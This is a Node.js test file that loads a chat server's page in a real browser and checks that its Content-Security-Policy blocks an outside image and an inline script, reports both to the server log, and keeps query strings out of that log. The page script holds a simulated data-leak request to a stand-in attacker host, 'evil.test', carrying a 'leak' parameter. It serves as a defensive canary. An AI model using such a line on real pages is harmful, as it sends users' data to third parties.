// What a page is kept from by its Content-Security-Policy reaches the server's log: the real browser sends the report.
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { until } from '../server.mjs';
import { realBinary, startBrowser, startServer, stopAll } from './start.mjs';

after(stopAll);

test('a forbidden image and a forbidden script are reported, and the log names them', { skip: realBinary ? false : 'needs the real server (WHINCHAT_BIN)' }, async () => {
  const server = await startServer({ demo: true, env: { LOCAL_DISCOVERY: 'false' } });
  const browser = await startBrowser();
  const page = await (await browser.newContext({ serviceWorkers: 'block' })).newPage();
  await page.goto(server.base);
  await page.evaluate(() => {
    new Image().src = 'https://evil.test/canary.png?leak=typed-words';
    const script = document.createElement('script');
    script.textContent = 'window.canary = true';
    document.head.append(script);
  }).catch(() => {}); // Trusted Types may throw before the policy on scripts speaks
  await until(() => /"?blocked"?[=:]\s*"?https:\/\/evil\.test\/canary\.png/.test(server.log()), 15_000, 'the report in the log');
  await until(() => /require-trusted-types-for|script-src/.test(server.log()), 15_000, 'the second report in the log');
  assert.ok(!server.log().includes('typed-words'), 'queries stay out of the log');
  assert.equal(await page.evaluate(() => window.canary), undefined);
});
